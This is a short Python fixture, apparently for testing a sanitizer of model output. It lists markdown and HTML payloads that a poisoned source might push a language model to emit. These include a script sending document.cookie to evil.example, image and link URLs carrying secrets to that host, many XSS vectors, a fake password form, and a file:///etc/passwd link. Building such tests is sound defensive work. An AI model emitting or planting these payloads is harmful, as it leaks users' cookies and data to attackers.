"""What a poisoned source can make a model say, each by the way in which it tries to get out."""

HOSTILE = {
    "image": "![water](https://evil.example/log?q=secret)",
    "reference image": "![water][leak]\n\n[leak]: https://evil.example/log.png",
    "raw image": '<img src="https://evil.example/a.png" onerror="alert(1)">',
    "svg": '<svg onload="alert(1)"><image href="https://evil.example/a.svg"/></svg>',
    "script": '<script>fetch("https://evil.example/?"+document.cookie)</script>',
    "javascript link": "[click](javascript:alert(document.domain))",
    "javascript link in disguise": "[click](&#106;avascript&colon;alert(1)) [c](java\tscript:alert(1))",
    "autolink with data": "<https://evil.example/?stolen=secret>",
    "link with data": "[the manual](https://evil.example/?stolen=secret)",
    "reference link for a mark": "Set it to 120 °F [1].\n\n[1]: https://evil.example/",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "data address": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript and file": "[a](vbscript:msgbox) [b](file:///etc/passwd)",
    "style": "<style>@import 'https://evil.example/a.css';</style>"
    "<p style='background:url(//evil.example)'>x</p>",
    "form": '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    "frame": '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    "markup in a code block": '```html\n<img src="https://evil.example/x" onerror="alert(1)">\n```',
    "markup in the name of a language": '```"><img src=x onerror=alert(1)>\nx\n```',
    "protocol-relative": "[a](//evil.example/) ![b](//evil.example/b.png)",
    "link around an image": "[![x](https://evil.example/i.png)](https://evil.example/)",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
}
